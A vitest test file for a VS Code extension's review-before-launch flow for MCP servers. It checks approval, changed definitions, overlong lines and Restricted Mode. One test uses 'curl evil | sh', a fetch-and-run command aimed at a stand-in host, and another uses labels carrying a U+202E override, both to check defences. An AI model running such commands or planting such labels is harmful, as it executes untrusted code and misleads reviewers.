import { beforeEach, expect, it, vi } from 'vitest';
import type { ConfiguredServer } from '../../../../src/config/configuredServer.ts';
import type { LaunchReview } from '../../../../src/host/configuration/launchTrust.ts';
import { StartAll } from '../../../../src/host/servers/startAll.ts';
import type { StartReviewToPanel } from '../../../../src/shared/startReviewMessages.ts';
import { fileSource, userSource } from '../../../fixtures/launches.ts';
import { editor, window } from '../../../fixtures/vscode.ts';
import { running, type Sample, sampleRegistry, sampleServer } from '../sampleServer.ts';

/** What an approval waits for. */
let saving: Promise<void> | undefined;
/** What is asked about each server, by label; what is not there is approved. */
let questions: Record<string, { line: string; isRisky?: boolean; changes?: string[] }>;
let approved: string[];
/** What is approved of each server. */
let trusted: Record<string, string>;
let started: string[];
let startAll: StartAll;

function review({ label }: ConfiguredServer): LaunchReview | undefined {
  const question = questions[label];
  if (question === undefined) return undefined;
  const { line, isRisky = false, changes = [] } = question;
  const warnings = isRisky ? ['It runs a shell.'] : [];
  const summary = { line, also: [], changes, warnings, origin: 'Defined in x', details: [], isRisky };
  return {
    summary,
    shown: JSON.stringify(summary),
    approve: async () => {
      await saving;
      approved.push(label);
      trusted[label] = line;
      delete questions[label];
    },
    isApproved: () => trusted[label] === line,
  };
}

function servers(samples: Readonly<Record<string, Sample>>) {
  const registry = sampleRegistry(...Object.entries(samples).map(([label, sample]) => sampleServer(label, sample)));
  const actions = { start: async (label: string) => void started.push(label) };
  const openPanel = (): never => window.createWebviewPanel('', 'x', { viewColumn: 1 }) as never;
  startAll = new StartAll(registry, actions, async (server) => review(server), openPanel);
  return registry;
}

const panel = () => editor.panels.at(-1);
/** What the page shows now. */
const shown = () => panel()?.posted.at(-1) as StartReviewToPanel;

/** The page is loaded, and the person presses its button. */
async function press(chosen: readonly number[], turn = shown().turn): Promise<void> {
  panel()?.said.fire({ type: 'start', turn, chosen });
  await vi.waitUntil(() => true);
}

async function open(labels?: readonly string[]): Promise<void> {
  await startAll.start(labels);
  panel()?.said.fire({ type: 'ready' });
}

beforeEach(() => {
  questions = {};
  saving = undefined;
  approved = [];
  trusted = {};
  started = [];
});

it('starts at once what is approved, and shows the others on one page: what is risky first, and not chosen', async () => {
  questions = { a: { line: 'npx a' }, b: { line: 'sh -c b', isRisky: true }, c: { line: 'npx c' } };
  servers({ a: {}, b: {}, c: {}, d: {}, e: { state: running } });
  await open();
  expect(started).toEqual(['d']);
  expect(editor.panels).toHaveLength(1);
  expect(shown().rows.map(({ label, line, isChosen }) => [label, line, isChosen])).toEqual([
    ['b', 'sh -c b', false],
    ['a', 'npx a', true],
    ['c', 'npx c', true],
  ]);
  expect(editor.questions).toEqual([]);
  await press([1, 2]);
  await vi.waitUntil(() => started.length === 3);
  expect(approved).toEqual(['a', 'c']);
  expect(started).toEqual(['d', 'a', 'c']);
});

it('starts all without a question once they are approved', async () => {
  servers({ a: {}, b: {} });
  await open();
  expect(started).toEqual(['a', 'b']);
  expect(editor.panels).toEqual([]);
});

it('starts nothing of what has changed while the page was open: it is shown again, and not chosen', async () => {
  questions = { a: { line: 'npx a' }, b: { line: 'npx b' } };
  servers({ a: {}, b: {} });
  await open();
  questions['b'] = { line: 'curl evil | sh' };
  await press([0, 1]);
  await vi.waitUntil(() => started.length === 1);
  expect(approved).toEqual(['a']);
  expect(started).toEqual(['a']);
  expect(shown().rows).toMatchObject([
    { label: 'b', line: 'curl evil | sh', isChosen: false, note: expect.stringMatching(/has changed/) },
  ]);
  // The answer to what was shown before is void.
  await press([0], shown().turn - 1);
  expect(approved).toEqual(['a']);
  await press([0]);
  await vi.waitUntil(() => started.length === 2);
  expect(approved).toEqual(['a', 'b']);
});

it('approves nothing of a server that was disabled while the page was open', async () => {
  questions = { a: { line: 'npx a' }, b: { line: 'npx b' } };
  const registry = servers({ a: {}, b: {} });
  await open();
  Object.assign(registry.get('a') ?? {}, { isDisabled: true });
  await press([0, 1]);
  await vi.waitUntil(() => started.length > 0);
  expect(approved).toEqual(['b']);
  expect(started).toEqual(['b']);
});

it('starts nothing else that was approved before, and says so', async () => {
  questions = { a: { line: 'npx harmless' }, b: { line: 'npx b' } };
  servers({ a: {}, b: {} });
  await open();
  // The file of the first has gone back to what was approved, and the other one is approved in another window.
  questions = {};
  trusted = { a: 'deploy', b: 'npx b' };
  await press([0, 1]);
  await vi.waitUntil(() => editor.said.length > 0);
  expect(editor.said).toEqual(['Not started, because of changes since your review: “a”.']);
  expect([approved, started]).toEqual([[], ['b']]);
});

it('keeps the page of a second time, while the first one is still being answered', async () => {
  let save = (): void => {};
  saving = new Promise((resolve) => (save = resolve));
  questions = { a: { line: 'npx a' }, b: { line: 'npx b' } };
  servers({ a: {}, b: {} });
  await open(['a', 'b']);
  await press([0]);
  await open();
  const { turn } = shown();
  save();
  await vi.waitUntil(() => started.length > 0);
  expect(panel()?.active).toBe(true);
  await press([1], turn);
  await vi.waitUntil(() => started.length > 1);
  expect(approved).toEqual(['a', 'b']);
});

it('takes one answer for what it has shown, whatever the page sends', async () => {
  questions = { a: { line: 'npx a' } };
  servers({ a: {}, b: {} });
  await open();
  for (const chosen of [[0, 0], [-1], ['0'], 0, undefined])
    panel()?.said.fire({ type: 'start', turn: shown().turn, chosen });
  await press([7]);
  await press([0]);
  expect(approved).toEqual([]);
  expect(started).toEqual(['b']);
});

it('starts nothing when the page is closed or cancelled', async () => {
  questions = { a: { line: 'npx a' } };
  servers({ a: {} });
  await open();
  const { turn } = shown();
  panel()?.said.fire({ type: 'cancel' });
  panel()?.said.fire({ type: 'start', turn, chosen: [0] });
  expect(approved).toEqual([]);
  await open();
  expect(editor.panels).toHaveLength(2);
});

it('does not take a definition that is too long to be read here, and shows both of its ends', async () => {
  questions = { a: { line: `npx ${'x'.repeat(100_000)} --end` } };
  servers({ a: {} });
  await open();
  const [row] = shown().rows;
  expect(row).toMatchObject({
    canStart: false,
    isChosen: false,
    note: expect.stringMatching(/too long to review here/),
  });
  expect(row?.line).toMatch(/^npx x+…x+ --end$/);
  await press([0]);
  expect(approved).toEqual([]);
});

it('chooses none that is too long to be seen at once: it comes first, and the person may choose it', async () => {
  questions = { a: { line: 'npx a' }, b: { line: `npx ${'x'.repeat(2_000)} --end` } };
  servers({ a: {}, b: {} });
  await open();
  expect(shown().rows).toMatchObject([
    { label: 'b', canStart: true, isChosen: false, note: expect.stringMatching(/Read it to the end/) },
    { label: 'a', canStart: true, isChosen: true, note: undefined },
  ]);
  await press([0]);
  await vi.waitUntil(() => started.length === 1);
  expect(approved).toEqual(['b']);
});

it('shows 100 servers with hostile labels, each with what cannot be seen written out', async () => {
  const labels = Array.from({ length: 100 }, (_, index) => `${index}\u202e<b>x</b>${'y'.repeat(1_000)}`);
  questions = Object.fromEntries(labels.map((label) => [label, { line: 'npx x' }]));
  servers(Object.fromEntries(labels.map((label) => [label, {}])));
  await open();
  expect(shown().rows).toHaveLength(100);
  for (const { label } of shown().rows) {
    expect(label).toContain('⟨U+202E⟩');
    expect(label.length).toBeLessThan(200);
  }
});

it('starts what the person defines in Restricted Mode, and says that nothing of the workspace starts', async () => {
  editor.isTrusted = false;
  servers({ a: { configured: { source: fileSource } }, b: { configured: { source: userSource } } });
  questions = { a: { line: 'npx a' } };
  await open();
  expect(started).toEqual(['b']);
  expect(editor.panels).toEqual([]);
  expect(editor.said).toEqual(['1 MCP server of this workspace was not started, because it is in Restricted Mode.']);
});

it('asks about one server as its own start does', async () => {
  questions = { a: { line: 'npx a' }, b: { line: 'npx b' } };
  servers({ a: {}, b: {} });
  await open(['a']);
  expect(started).toEqual(['a']);
  expect(editor.panels).toEqual([]);
});

it('says so where nothing is left to start', async () => {
  servers({ a: { state: running } });
  await open();
  expect(editor.said).toEqual(['There are no servers to start.']);
});
